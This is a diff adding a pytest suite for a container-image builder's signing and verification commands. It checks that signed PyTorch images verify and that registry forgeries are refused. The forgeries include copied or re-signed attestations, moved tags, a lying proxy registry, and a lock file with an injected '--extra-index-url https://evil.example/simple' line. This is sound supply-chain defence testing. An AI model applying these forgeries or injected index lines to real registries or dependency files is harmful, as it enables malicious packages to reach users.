@@ -1,0 +1,354 @@
+"""Vetted means verifiable, for real: one CPU runtime image built, staged with signed evidence
+(`builder build --stage --key`), published and signed (`builder publish --key`) with a key from
+`builder keygen`, then `builder verify --key` on its tag and digest — and each forgery someone
+with push rights to the registry could try is refused (exit 1, one line, no traceback, no tag
+moved).
+
+Uses the shipped matrix with the registry moved to a private port; the forgeries are written
+straight into that registry with the project's own registry client, as an attacker would.
+"""
+
+from __future__ import annotations
+
+import hashlib
+import http.server
+import json
+import os
+import re
+import shutil
+import subprocess
+import threading
+import urllib.request
+import uuid
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from helpers import amd64_matrix, free_port, run_builder
+
+from builder.core import engine, oci, registry, sign
+
+pytestmark = pytest.mark.docker
+
+CPU = "2.13.0-py3.11-cpu-runtime"
+ROOT = Path(__file__).resolve().parents[2]
+PASSWORD = "correct horse"
+
+
+# ---- the published image -----------------------------------------------------------------------
+
+
+@pytest.fixture(scope="module")
+def env(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
+    """A matrix on a fresh registry, two key pairs (ours and someone else's), images removed
+    afterwards."""
+    tmp = tmp_path_factory.mktemp("signing")
+    addr = f"127.0.0.1:{free_port()}"
+    matrix_path = amd64_matrix(tmp, addr)
+    registry.start(addr, tmp / "registry")
+    environ = {**os.environ, "COSIGN_PASSWORD": PASSWORD}
+    environ.pop("COSIGN_PRIVATE_KEY", None)
+    for who in ("ours", "other"):
+        (tmp / who).mkdir()
+        run_builder("keygen", "--out", str(tmp / who), env=environ)
+    yield {"matrix": matrix_path, "addr": addr, "tmp": tmp, "env": environ,
+           "key": tmp / "ours" / "cosign.key", "pub": tmp / "ours" / "cosign.pub",
+           "other_key": tmp / "other" / "cosign.key"}
+    registry.stop(tmp / "registry")
+    refs = engine.docker("images", "--format", "{{.Repository}}:{{.Tag}}",
+                         "--filter", f"reference={addr}/*").stdout.split()
+    for ref in refs:
+        engine.remove_image(ref)
+
+
+def builder(env: dict[str, Any], *args: str, check: bool = True
+            ) -> subprocess.CompletedProcess[str]:
+    return run_builder(*args, matrix=env["matrix"], env=env["env"], check=check)
+
+
+def verify(env: dict[str, Any], ref: str, *extra: str) -> subprocess.CompletedProcess[str]:
+    return run_builder("verify", ref, "--key", str(env["pub"]), *extra, env=env["env"],
+                       check=False)
+
+
+def publish(env: dict[str, Any], *extra: str, check: bool = True
+            ) -> subprocess.CompletedProcess[str]:
+    return builder(env, "publish", "--select", f"id={CPU}", "--key", str(env["key"]),
+                   "--manifest", str(env["tmp"] / "published.json"), *extra, check=check)
+
+
+@pytest.fixture(scope="module")
+def published(env: dict[str, Any]) -> dict[str, Any]:
+    """Build and stage (signed evidence), then publish (signed digest): the publication."""
+    outcomes = json.loads(builder(env, "build", "--select", f"id={CPU}", "--stage", "--key",
+                                  str(env["key"]), "--json").stdout)
+    staged_ref = outcomes[0]["message"]
+    assert re.fullmatch(rf"{env['addr']}/torch-staging@sha256:[0-9a-f]{{64}}", staged_ref)
+    publish(env)
+    [pub] = json.loads((env["tmp"] / "published.json").read_text())["variants"][CPU][
+        "publications"]
+    assert pub["digest"] == staged_ref.rsplit("@", 1)[1]
+    assert pub["signed"] is True and pub["unsigned"] is False
+    return {**pub, "staged": staged_ref.rsplit("@", 1)[1]}
+
+
+def refused(result: subprocess.CompletedProcess[str], reason: str) -> str:
+    """Exit 1 with one `error:` line naming `reason`, no traceback; returns that line."""
+    assert result.returncode == 1, (result.stdout, result.stderr)
+    assert "Traceback" not in result.stderr
+    lines = [x for x in result.stderr.splitlines() if x.startswith("error: ")]
+    assert lines, result.stderr
+    text = result.stdout + result.stderr
+    assert re.search(reason, text), text
+    return lines[0]
+
+
+def tag_digests(env: dict[str, Any], pub: dict[str, Any]) -> dict[str, str | None]:
+    reg = oci.Registry(env["addr"])
+    return {tag: (d.digest if (d := reg.head("torch", tag)) else None) for tag in pub["tags"]}
+
+
+class Saved:
+    """Manifests put back after a forgery (by tag), so each test starts from the real thing."""
+
+    def __init__(self, addr: str) -> None:
+        self.reg = oci.Registry(addr)
+        self.kept: list[tuple[str, str, bytes | None, str]] = []
+
+    def keep(self, repository: str, tag: str) -> None:
+        found = self.reg.manifest(repository, tag)
+        self.kept.append((repository, tag, found[0] if found else None,
+                          found[1].media_type if found else ""))
+
+    def restore(self) -> None:
+        for repository, tag, body, media_type in reversed(self.kept):
+            if body is not None:
+                self.reg.put_manifest(repository, tag, body, media_type)
+
+
+@pytest.fixture
+def saved(env: dict[str, Any]) -> Iterator[Saved]:
+    keep = Saved(env["addr"])
+    yield keep
+    keep.restore()
+
+
+def fake_image(reg: oci.Registry, repository: str, labels: dict[str, str]) -> str:
+    """A tiny image (one small layer) wearing `labels`, pushed by digest; returns its digest
+    (a new one each time)."""
+    layer = reg.push_blob(repository, b"not torch")
+    config = json.dumps({"architecture": "amd64", "os": "linux", "created": uuid.uuid4().hex,
+                         "config": {"Labels": labels},
+                         "rootfs": {"type": "layers", "diff_ids": [layer]}}).encode()
+    manifest = {"schemaVersion": 2, "mediaType": oci.OCI_MANIFEST,
+                "config": {"mediaType": oci.OCI_CONFIG, "size": len(config),
+                           "digest": reg.push_blob(repository, config)},
+                "layers": [{"mediaType": oci.OCI_LAYER_GZIP, "size": 9, "digest": layer}]}
+    body = json.dumps(manifest).encode()
+    return reg.put_manifest(repository, oci.sha256(body), body, oci.OCI_MANIFEST)
+
+
+def real_labels(reg: oci.Registry, repository: str, digest: str) -> dict[str, str]:
+    body, _ = reg.manifest(repository, digest)
+    config = json.loads(reg.blob(repository, json.loads(body)["config"]["digest"]))
+    return config["config"]["Labels"]
+
+
+# ---- the real thing ------------------------------------------------------------------------------
+
+
+def test_verify_key_on_the_published_tag_and_digest(env, published) -> None:
+    for ref in (published["reference"], f"{env['addr']}/torch:{published['floating_tag']}"):
+        result = verify(env, ref, "--json")
+        assert result.returncode == 0, result.stdout + result.stderr
+        checks = {c["what"]: c for c in json.loads(result.stdout)["checks"]}
+        for what in ("signature", "attestation sbom", "attestation smoke",
+                     "attestation provenance", "smoke", "sbom", "provenance", "labels"):
+            assert checks[what]["status"] == "ok", checks[what]
+        assert checks["signature"]["detail"].startswith("cosign signature over")
+    text = verify(env, published["reference"]).stdout
+    print(text)  # the table a platform team reads
+    unsigned = run_builder("verify", published["reference"], env=env["env"], check=False)
+    assert unsigned.returncode == 0
+    assert "unsigned: contents only" in unsigned.stdout
+    assert not re.search(r"signature\s+ok", unsigned.stdout)
+
+
+def test_the_signature_is_cosigns_layout(env, published) -> None:
+    """What `cosign verify --key` reads: `sha256-<hex>.sig`, a simple-signing layer with its
+    signature annotation, over the exact digest, for the vetted repository."""
+    reg = oci.Registry(env["addr"])
+    body, _ = reg.manifest("torch", sign.sig_tag(published["digest"]))
+    [layer] = json.loads(body)["layers"]
+    assert layer["mediaType"] == "application/vnd.dev.cosign.simplesigning.v1+json"
+    payload = json.loads(reg.blob("torch", layer["digest"]))
+    assert payload["critical"] == {
+        "identity": {"docker-reference": f"{env['addr']}/torch"},
+        "image": {"docker-manifest-digest": published["digest"]},
+        "type": "cosign container image signature"}
+    assert set(layer["annotations"]) == {"dev.cosignproject.cosign/signature"}
+    body, _ = reg.manifest("torch", sign.att_tag(published["digest"]))
+    types = {x["annotations"]["predicateType"] for x in json.loads(body)["layers"]}
+    assert types == set(sign.PREDICATES.values())
+
+
+# ---- forgeries: publish refuses ------------------------------------------------------------------
+
+
+def test_forged_staged_image_with_copied_evidence_is_refused(env, published, saved) -> None:
+    reg = oci.Registry(env["addr"])
+    before = tag_digests(env, published)
+    staging, real = "torch-staging", published["staged"]
+    forged = fake_image(reg, staging, real_labels(reg, staging, real))
+    for kind in ("sbom", "smoke"):  # the evidence, copied beside it
+        reg.push_artifact(staging, oci.Descriptor(forged, oci.OCI_MANIFEST, 1),
+                          "application/json", reg.fetch_artifact(staging, real, kind),
+                          kind=kind, title=kind)
+    for suffix in ("att", "sig"):  # and the real digest's signed attestations
+        found = reg.manifest(staging, oci.artifact_tag(real, suffix))
+        if found:
+            reg.put_manifest(staging, oci.artifact_tag(forged, suffix), found[0], oci.OCI_MANIFEST)
+    saved.keep(staging, published["hash_tag"])
+    reg.tag(staging, forged, published["hash_tag"])
+    line = refused(publish(env, check=False), f"subject is not {forged}")
+    print(line)
+    assert tag_digests(env, published) == before
+
+
+def test_evidence_re_signed_with_another_key_is_refused(env, published, saved) -> None:
+    reg = oci.Registry(env["addr"])
+    other = sign.decrypt_private(env["other_key"].read_bytes(), "other", PASSWORD.encode())
+    before = tag_digests(env, published)
+    # At staging: publish trusts only our key.
+    saved.keep("torch-staging", sign.att_tag(published["staged"]))
+    report = json.loads(reg.fetch_artifact("torch-staging", published["staged"], "smoke"))
+    sign.attest(reg, "torch-staging", published["staged"], other, "smoke", report)
+    print(refused(publish(env, check=False), "does not verify against the trusted key"))
+    assert tag_digests(env, published) == before
+    # In the vetted repository: verify trusts only our key.
+    saved.keep("torch", sign.att_tag(published["digest"]))
+    doc = json.loads(reg.fetch_artifact("torch", published["digest"], "sbom"))
+    sign.attest(reg, "torch", published["digest"], other, "sbom", doc)
+    print(refused(verify(env, published["reference"]), "attestation sbom: its signature does "
+                  "not verify"))
+
+
+def test_a_smoke_report_with_no_checks_is_refused_even_when_signed(env, published, saved) -> None:
+    reg = oci.Registry(env["addr"])
+    ours = sign.decrypt_private(env["key"].read_bytes(), "ours", PASSWORD.encode())
+    before = tag_digests(env, published)
+    report = json.loads(reg.fetch_artifact("torch-staging", published["staged"], "smoke"))
+    empty = {**report, "checks": []}
+    saved.keep("torch-staging", sign.att_tag(published["staged"]))
+    saved.keep("torch-staging", oci.artifact_tag(published["staged"], "smoke"))
+    staged = oci.Descriptor(published["staged"], oci.OCI_MANIFEST, 1)
+    reg.push_artifact("torch-staging", staged, "application/json", json.dumps(empty).encode(),
+                      kind="smoke", title="smoke")
+    sign.attest(reg, "torch-staging", published["staged"], ours, "smoke", empty)
+    print(refused(publish(env, check=False), "lacks required checks: env, cuda"))
+    assert tag_digests(env, published) == before
+
+
+# ---- forgeries: verify refuses -------------------------------------------------------------------
+
+
+def test_unvetted_image_wearing_the_vetted_signature_is_refused(env, published) -> None:
+    reg = oci.Registry(env["addr"])
+    fake = fake_image(reg, "torch", real_labels(reg, "torch", published["digest"]))
+    for suffix in ("sig", "att"):
+        body, _ = reg.manifest("torch", oci.artifact_tag(published["digest"], suffix))
+        reg.put_manifest("torch", oci.artifact_tag(fake, suffix), body, oci.OCI_MANIFEST)
+    line = refused(verify(env, f"{env['addr']}/torch@{fake}"),
+                   f"it signs {published['digest']}, not {fake}")
+    print(line)
+
+
+def test_floating_tag_moved_to_another_digest_is_refused(env, published, saved) -> None:
+    reg = oci.Registry(env["addr"])
+    fake = fake_image(reg, "torch", real_labels(reg, "torch", published["digest"]))
+    floating = published["floating_tag"]
+    saved.keep("torch", floating)
+    reg.tag("torch", fake, floating)
+    print(refused(verify(env, f"{env['addr']}/torch:{floating}"), "signature: no signature"))
+
+
+def test_sbom_replaced_after_signing_is_refused(env, published, saved) -> None:
+    reg = oci.Registry(env["addr"])
+    digest = published["digest"]
+    doc = json.loads(reg.fetch_artifact("torch", digest, "sbom"))
+    doc["components"] = doc["components"][:1]
+    saved.keep("torch", oci.artifact_tag(digest, "sbom"))
+    reg.push_artifact("torch", reg.head("torch", digest), "application/vnd.cyclonedx+json",
+                      json.dumps(doc).encode(), kind="sbom", title="sbom.cdx.json")
+    print(refused(verify(env, published["reference"]),
+                  "the attached sbom differs from its signed attestation"))
+
+
+class LyingRegistry(http.server.BaseHTTPRequestHandler):
+    """Forwards to the real registry, but answers one digest with another manifest's bytes."""
+
+    upstream = ""
+    lie: tuple[str, bytes] = ("", b"")
+
+    def do_GET(self) -> None:
+        if self.path.endswith(f"/manifests/{self.lie[0]}"):
+            self._answer(200, {"Content-Type": oci.OCI_MANIFEST}, self.lie[1])
+            return
+        request = urllib.request.Request(self.upstream + self.path,
+                                         headers={"Accept": self.headers.get("Accept", "*/*")})
+        try:
+            with urllib.request.urlopen(request, timeout=10) as response:
+                self._answer(response.status, dict(response.headers), response.read())
+        except urllib.error.HTTPError as exc:
+            self._answer(exc.code, dict(exc.headers), exc.read())
+
+    def do_HEAD(self) -> None:
+        self.do_GET()
+
+    def _answer(self, status: int, headers: dict[str, str], body: bytes) -> None:
+        self.send_response(status)
+        for name in ("Content-Type", "Docker-Content-Digest"):
+            if name in headers:
+                self.send_header(name, headers[name])
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        if self.command != "HEAD":
+            self.wfile.write(body)
+
+    def log_message(self, *args: Any) -> None:
+        pass
+
+
+def test_a_registry_answering_a_digest_with_other_bytes_is_refused(env, published) -> None:
+    reg = oci.Registry(env["addr"])
+    fake = fake_image(reg, "torch", real_labels(reg, "torch", published["digest"]))
+    LyingRegistry.upstream = f"http://{env['addr']}"
+    LyingRegistry.lie = (published["digest"], reg.manifest("torch", fake)[0])
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), LyingRegistry)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    try:
+        proxy = f"127.0.0.1:{server.server_address[1]}"
+        line = refused(verify(env, f"{proxy}/torch@{published['digest']}"),
+                       rf"hash to {fake}, not {published['digest']}: refused")
+        print(line)
+    finally:
+        server.shutdown()
+
+
+def test_a_hand_edited_lock_line_is_refused(env, tmp_path) -> None:
+    """An extra index slipped into a lock (its recorded hash updated too) stops validate and
+    build before anything is installed."""
+    locks = tmp_path / "locks"
+    shutil.copytree(ROOT / "locks", locks)
+    txt, js = locks / f"{CPU}.txt", locks / f"{CPU}.json"
+    txt.write_text(txt.read_text().replace(
+        "--find-links /opt/wheels\n",
+        "--find-links /opt/wheels\n--extra-index-url https://evil.example/simple\n"))
+    meta = json.loads(js.read_text())
+    meta["text_sha256"] = hashlib.sha256(txt.read_bytes()).hexdigest()
+    js.write_text(json.dumps(meta))
+    for command in ("validate", "build"):
+        result = builder(env, command, "--select", f"id={CPU}", "--locks", str(locks),
+                         check=False)
+        print(refused(result, rf"{txt}:3: option `--extra-index-url https://evil\.example"))
